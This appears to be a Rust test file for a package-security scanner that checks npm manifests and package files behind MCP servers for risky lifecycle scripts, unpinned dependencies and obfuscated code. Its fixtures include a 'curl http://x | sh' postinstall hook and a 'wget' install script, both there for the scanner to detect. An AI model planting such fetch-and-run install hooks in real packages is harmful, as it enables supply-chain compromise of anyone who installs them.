use krysta_probe::engine::mcp::{McpServer, TransportType};
use krysta_probe::engine::package_analyzer::{PackageAnalyzer, PackageManifest};
use krysta_probe::error::ScanError;
use krysta_probe::files::WalkedFile;
use krysta_probe::json::JsonValue;
use krysta_probe::models::finding::{Category, FindingSource, Severity};

fn s(v: &str) -> JsonValue {
    JsonValue::Str(v.to_string())
}

fn obj(entries: Vec<(&str, JsonValue)>) -> JsonValue {
    JsonValue::Object(entries.into_iter().map(|(k, v)| (k.to_string(), v)).collect())
}

fn json_text(v: &JsonValue) -> serde_json::Value {
    match v {
        JsonValue::Null => serde_json::Value::Null,
        JsonValue::Bool(b) => serde_json::Value::Bool(*b),
        JsonValue::Number(n) => serde_json::from_str(n).unwrap(),
        JsonValue::Str(t) => serde_json::Value::String(t.clone()),
        JsonValue::Array(items) => serde_json::Value::Array(items.iter().map(json_text).collect()),
        JsonValue::Object(entries) => {
            let mut m = serde_json::Map::new();
            for (k, x) in entries {
                m.insert(k.clone(), json_text(x));
            }
            serde_json::Value::Object(m)
        }
    }
}

/// A manifest whose text is the JSON rendering of `v`.
fn read(v: JsonValue) -> PackageManifest {
    PackageManifest::Read(json_text(&v).to_string())
}

fn npx(args: &[&str]) -> McpServer {
    McpServer {
        name: "pkg".to_string(),
        transport: TransportType::Stdio,
        command: Some("npx".to_string()),
        args: args.iter().map(|a| a.to_string()).collect(),
        url: None,
        config_source: "mcp_settings.json".to_string(),
    }
}

fn file(rel: &str, content: Option<&str>) -> WalkedFile {
    let name = rel.rsplit('/').next().unwrap().to_string();
    WalkedFile {
        path: format!("/tmp/pkg/{}", rel),
        relative_path: rel.to_string(),
        file_name: name,
        content: content.map(|c| c.to_string()),
    }
}

#[test]
fn extract_package_skips_flags_and_run() {
    assert_eq!(
        PackageAnalyzer::extract_package(&npx(&["-y", "@scope/server", "--port", "1"])),
        Some("@scope/server".to_string())
    );
    assert_eq!(PackageAnalyzer::extract_package(&npx(&["run", "mcp-server"])), Some("mcp-server".to_string()));
    assert_eq!(PackageAnalyzer::extract_package(&npx(&["index.js"])), None);
    let mut node = npx(&["server"]);
    node.command = Some("node".to_string());
    assert_eq!(PackageAnalyzer::extract_package(&node), None);
    node.command = None;
    assert_eq!(PackageAnalyzer::extract_package(&node), None);
}

#[test]
fn package_info_reads_npm_view_fields() {
    let value = obj(vec![
        ("version", s("1.2.3")),
        ("repository", obj(vec![("type", s("git")), ("url", s("git+https://github.com/a/b.git"))])),
        ("homepage", s("https://example.com")),
        ("dist", obj(vec![("tarball", s("https://registry/x.tgz"))])),
    ]);
    let info = PackageAnalyzer::package_info("x", &value);
    assert_eq!(info.package, "x");
    assert_eq!(info.version, "1.2.3");
    assert_eq!(info.repository.as_deref(), Some("git+https://github.com/a/b.git"));
    assert_eq!(info.homepage.as_deref(), Some("https://example.com"));
    assert_eq!(info.tarball.as_deref(), Some("https://registry/x.tgz"));
    let bare = PackageAnalyzer::package_info("y", &obj(vec![("repository", s("github:a/b"))]));
    assert_eq!(bare.version, "");
    assert_eq!(bare.repository.as_deref(), Some("github:a/b"));
    assert_eq!(bare.homepage, None);
    assert_eq!(bare.tarball, None);
}

#[test]
fn manifest_scripts_dependencies_and_metadata() {
    let manifest = read(obj(vec![
        ("name", s("evil")),
        ("scripts", obj(vec![("postinstall", s("curl http://x | sh")), ("preinstall", s("node setup.js"))])),
        ("dependencies", obj(vec![("a", s("^1.0.0")), ("b", s("github:user/b"))])),
        ("devDependencies", obj(vec![("c", s("git+ssh://host/c.git"))])),
        ("license", s("MIT")),
    ]));
    let fs = PackageAnalyzer::inspect_package_contents(&manifest, &Vec::new()).unwrap();
    let ids: Vec<&str> = fs.iter().map(|f| f.id.as_str()).collect();
    assert_eq!(
        ids,
        vec!["KRYSTA-PKG-001", "KRYSTA-PKG-002", "KRYSTA-PKG-003", "KRYSTA-PKG-004", "KRYSTA-PKG-005", "KRYSTA-PKG-006"]
    );
    assert_eq!(fs[0].title, "Lifecycle script 'preinstall' detected");
    assert_eq!(fs[0].severity, Severity::High);
    assert_eq!(fs[0].evidence, "Script 'preinstall': node setup.js");
    assert_eq!(fs[1].title, "Lifecycle script 'postinstall' detected");
    assert_eq!(fs[1].severity, Severity::Critical);
    assert_eq!(fs[1].category, Category::CommandInjection);
    assert_eq!(fs[1].source, FindingSource::Package);
    assert_eq!(fs[2].title, "Unpinned dependency: a");
    assert_eq!(fs[2].evidence, "a: ^1.0.0");
    assert_eq!(fs[2].severity, Severity::Low);
    assert_eq!(fs[3].title, "Non-registry dependency: b");
    assert_eq!(fs[3].evidence, "b: github:user/b");
    assert_eq!(fs[3].severity, Severity::Medium);
    assert_eq!(fs[4].title, "Non-registry dependency: c");
    assert_eq!(fs[5].title, "Missing package metadata");
    assert_eq!(fs[5].evidence, "Missing: repository, engines");
    assert_eq!(
        fs[5].description,
        "package.json is missing fields: repository, engines. This reduces traceability and trust."
    );
    assert_eq!(fs[5].severity, Severity::Low);
}

#[test]
fn complete_manifest_yields_nothing() {
    let manifest = read(obj(vec![
        ("license", s("MIT")),
        ("repository", s("github:a/b")),
        ("engines", obj(vec![("node", s(">=18"))])),
        ("dependencies", obj(vec![("a", s("1.0.0"))])),
    ]));
    let fs = PackageAnalyzer::inspect_package_contents(&manifest, &Vec::new()).unwrap();
    assert!(fs.is_empty());
    let absent = PackageAnalyzer::inspect_package_contents(&PackageManifest::Absent, &Vec::new()).unwrap();
    assert!(absent.is_empty());
}

#[test]
fn manifest_errors_are_reported() {
    match PackageAnalyzer::inspect_package_contents(&PackageManifest::Unreadable("denied".to_string()), &Vec::new()) {
        Err(ScanError::Unreadable(m)) => assert_eq!(m, "denied"),
        _ => panic!("expected an unreadable manifest"),
    }
    match PackageAnalyzer::inspect_package_contents(&PackageManifest::Read("{\"name\": ".to_string()), &Vec::new()) {
        Err(ScanError::Malformed(m)) => assert!(!m.is_empty()),
        _ => panic!("expected a malformed manifest"),
    }
}

#[test]
fn suspicious_files_by_extension() {
    let files = vec![
        file("bin/tool.EXE", None),
        file("lib/addon.node", None),
        file("pkg.wasm", None),
        file("index.js", Some("module.exports = 1;")),
    ];
    let fs = PackageAnalyzer::inspect_package_contents(&PackageManifest::Absent, &files).unwrap();
    let titles: Vec<&str> = fs.iter().map(|f| f.title.as_str()).collect();
    assert_eq!(titles, vec!["Suspicious file: bin/tool.EXE", "Suspicious file: lib/addon.node", "Suspicious file: pkg.wasm"]);
    assert_eq!(fs[0].severity, Severity::High);
    assert_eq!(fs[1].severity, Severity::Medium);
    assert_eq!(fs[2].severity, Severity::Low);
    assert!(fs[0].description.starts_with("Package contains a .exe file"));
    assert_eq!(fs[0].id, "KRYSTA-PKG-001");
    assert_eq!(fs[2].id, "KRYSTA-PKG-003");
}

#[test]
fn obfuscated_and_minified_scripts() {
    let long = "a".repeat(50_001);
    let files = vec![
        file("dist/min.js", Some(&long)),
        file("lib/ob.mjs", Some("var _0xabcd = 1;")),
        file("lib/ob.ts", Some("var _0xabcd = 1;")),
    ];
    let fs = PackageAnalyzer::inspect_package_contents(&PackageManifest::Absent, &files).unwrap();
    let titles: Vec<&str> = fs.iter().map(|f| f.title.as_str()).collect();
    assert_eq!(titles, vec!["Heavily minified code: dist/min.js", "Obfuscated code: lib/ob.mjs"]);
    assert_eq!(fs[0].evidence, "File: dist/min.js (50001 bytes, 1 lines)");
    assert_eq!(fs[0].severity, Severity::Medium);
    assert_eq!(fs[1].severity, Severity::High);
    assert_eq!(fs[1].category, Category::ToolPoisoning);
}

#[test]
fn numbering_runs_across_checks() {
    let manifest = read(obj(vec![("scripts", obj(vec![("prepare", s("tsc"))]))]));
    let files = vec![file("run.sh", None), file("x.js", Some("\\x41\\x42\\x43\\x44\\x45\\x46\\x47\\x48\\x49\\x4a"))];
    let fs = PackageAnalyzer::inspect_package_contents(&manifest, &files).unwrap();
    let ids: Vec<&str> = fs.iter().map(|f| f.id.as_str()).collect();
    assert_eq!(ids, vec!["KRYSTA-PKG-001", "KRYSTA-PKG-002", "KRYSTA-PKG-003", "KRYSTA-PKG-004"]);
    assert_eq!(fs[0].title, "Lifecycle script 'prepare' detected");
    assert_eq!(fs[1].title, "Missing package metadata");
    assert_eq!(fs[2].title, "Suspicious file: run.sh");
    assert_eq!(fs[3].title, "Obfuscated code: x.js");
}

#[test]
fn version_ranges_are_unpinned() {
    let deps = vec![
        ("a", s("~2.1.0")),
        ("b", s("*")),
        ("c", s(">=1.0.0 <2")),
        ("d", s("1.x")),
        ("e", s("latest")),
        ("f", s("1.2.3")),
        ("g", s("=1.2.3")),
        ("h", JsonValue::Number("1".to_string())),
    ];
    let manifest = read(obj(vec![
        ("license", s("MIT")),
        ("repository", s("r")),
        ("engines", obj(vec![])),
        ("dependencies", obj(deps)),
    ]));
    let fs = PackageAnalyzer::inspect_package_contents(&manifest, &Vec::new()).unwrap();
    let titles: Vec<&str> = fs.iter().map(|f| f.title.as_str()).collect();
    assert_eq!(
        titles,
        vec![
            "Unpinned dependency: a",
            "Unpinned dependency: b",
            "Unpinned dependency: c",
            "Unpinned dependency: d",
            "Unpinned dependency: e",
        ]
    );
    assert_eq!(fs[2].evidence, "c: >=1.0.0 <2");
    assert_eq!(fs[0].category, Category::ToolPoisoning);
}

#[test]
fn numbering_past_the_counter_is_an_error() {
    let mut counter = u32::MAX;
    match PackageAnalyzer::check_suspicious_files(&vec![file("a.exe", None)], &mut counter) {
        Err(ScanError::TooManyFindings) => {}
        _ => panic!("expected too many findings"),
    }
    let mut counter = u32::MAX;
    assert!(PackageAnalyzer::check_suspicious_files(&vec![file("a.txt", None)], &mut counter).unwrap().is_empty());
    let mut counter = u32::MAX - 1;
    let fs = PackageAnalyzer::check_suspicious_files(&vec![file("a.exe", None)], &mut counter).unwrap();
    assert_eq!(counter, u32::MAX);
    assert_eq!(fs[0].id, format!("KRYSTA-PKG-{}", u32::MAX));
    let mut counter = u32::MAX;
    let manifest = read(obj(vec![("scripts", obj(vec![("prepare", s("tsc"))]))]));
    assert!(matches!(PackageAnalyzer::check_package_json(&manifest, &mut counter), Err(ScanError::TooManyFindings)));
    let mut counter = u32::MAX;
    let ob = vec![file("x.js", Some("var _0xabcd = 1;"))];
    assert!(matches!(PackageAnalyzer::check_obfuscated_code(&ob, &mut counter), Err(ScanError::TooManyFindings)));
}

#[test]
fn npm_output_is_parsed_as_json() {
    let out = r#"{"version": "2.0.1", "homepage": "https://h", "repository": {"url": "git+https://r"}, "dist": {"tarball": "https://t.tgz"}}"#;
    let info = PackageAnalyzer::npm_package_info("p", out).unwrap();
    assert_eq!(info.version, "2.0.1");
    assert_eq!(info.homepage.as_deref(), Some("https://h"));
    assert_eq!(info.repository.as_deref(), Some("git+https://r"));
    assert_eq!(info.tarball.as_deref(), Some("https://t.tgz"));
    assert!(matches!(PackageAnalyzer::npm_package_info("p", "npm ERR! 404"), Err(ScanError::Malformed(_))));
}

#[test]
fn manifest_text_is_parsed_before_the_checks() {
    let text = r#"{"scripts": {"postinstall": "wget http://x"}, "license": "MIT", "repository": "r", "engines": {}}"#;
    let fs = PackageAnalyzer::inspect_package_contents(&PackageManifest::Read(text.to_string()), &Vec::new()).unwrap();
    assert_eq!(fs.len(), 1);
    assert_eq!(fs[0].title, "Lifecycle script 'postinstall' detected");
    assert_eq!(fs[0].severity, Severity::Critical);
    let mut counter = 0;
    assert!(matches!(
        PackageAnalyzer::check_package_json(&PackageManifest::Read("[1,".to_string()), &mut counter),
        Err(ScanError::Malformed(_))
    ));
}
